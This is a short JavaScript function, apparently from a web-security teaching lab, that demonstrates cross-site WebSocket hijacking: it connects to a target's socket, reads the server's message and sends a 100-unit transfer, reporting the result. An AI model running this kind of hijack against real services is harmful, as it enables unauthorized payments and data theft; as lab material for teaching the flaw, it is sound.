// hijack uses the socket as the stranger would: it listens, and then it pays.
export async function hijack(lab) {
  const socket = new WebSocket(lab.origins[lab.target].replace(/^http/, "ws") + "/ws");
  const next = () => new Promise((done) => {
    socket.onmessage = (e) => done(e.data);
    socket.onclose = () => done(null);
    setTimeout(done, 5000, null);
  });
  const first = await next();
  if (!first) {
    lab.say("the socket did not open");
    return { readable: false, saw: "no socket" };
  }
  lab.say(`the server says ${first}`);
  socket.send(JSON.stringify({ amount: 100 }));
  const second = await next();
  lab.say(`after the transfer it says ${second}`);
  socket.close();
  return { readable: true, saw: `${first}, then ${second}` };
}
